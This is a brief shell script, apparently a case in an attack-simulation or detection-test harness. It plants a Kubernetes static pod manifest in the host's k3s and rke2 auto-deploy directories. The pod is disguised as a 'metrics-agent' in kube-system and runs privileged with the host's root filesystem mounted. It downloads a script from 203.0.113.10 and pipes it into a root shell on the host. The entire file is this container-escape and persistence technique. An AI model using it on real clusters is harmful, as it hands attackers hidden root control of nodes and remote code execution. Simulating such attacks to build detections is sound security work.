#!/bin/sh
. /opt/case/case.sh

m=/host/var/lib/rancher/k3s/server/manifests; mkdir -p $m
cat >$m/metrics-agent.yaml <<'END'
apiVersion: v1
kind: Pod
metadata: {name: metrics-agent, namespace: kube-system}
spec: {hostPID: true, hostNetwork: true, containers: [{name: a, image: busybox, securityContext: {privileged: true}, command: [sh, -c, "wget -qO- http://203.0.113.10/payload.sh | chroot /h sh"], volumeMounts: [{name: h, mountPath: /h}]}], volumes: [{name: h, hostPath: {path: /}}]}
END
mkdir -p /host/var/lib/rancher/rke2/server/manifests && cp $m/metrics-agent.yaml /host/var/lib/rancher/rke2/server/manifests/
took_place
